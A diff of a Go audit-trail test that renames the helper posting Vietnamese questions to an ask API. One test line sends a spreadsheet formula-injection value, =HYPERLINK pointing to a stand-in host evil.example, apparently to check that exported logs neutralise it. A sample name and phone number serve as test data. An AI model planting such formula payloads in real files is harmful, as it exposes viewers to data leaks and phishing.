@@ -29,7 +29,7 @@ func TestAuditTrail(t *testing.T) {
 	leader.get("/units/H29.01")
 	leader.get("/wards/26734")
 	leader.get("/units/" + url.PathEscape(`=HYPERLINK("evil.example?x","x")`))
-	ask := newAskServerFor(leader)
+	ask := asker(leader)
 	if r := ask("Số hồ sơ tháng 10? Tôi là Nguyễn Văn Bình, gọi 0903 123 456"); r.StatusCode != http.StatusOK {
 		t.Fatalf("ask: %d %s", r.StatusCode, r.body)
 	}
@@ -106,8 +106,8 @@ func TestAuditTrail(t *testing.T) {
 	}
 }
 
-// newAskServerFor returns a function posting a question as b.
-func newAskServerFor(b *browser) func(q string) reply {
+// asker returns a function posting a question as b.
+func asker(b *browser) func(q string) reply {
 	return func(q string) reply {
 		body, _ := json.Marshal(map[string]string{"question": q, "lang": "vi"})
 		req, _ := http.NewRequest(http.MethodPost, b.e.srv.URL+"/api/v1/ask", bytes.NewReader(body))
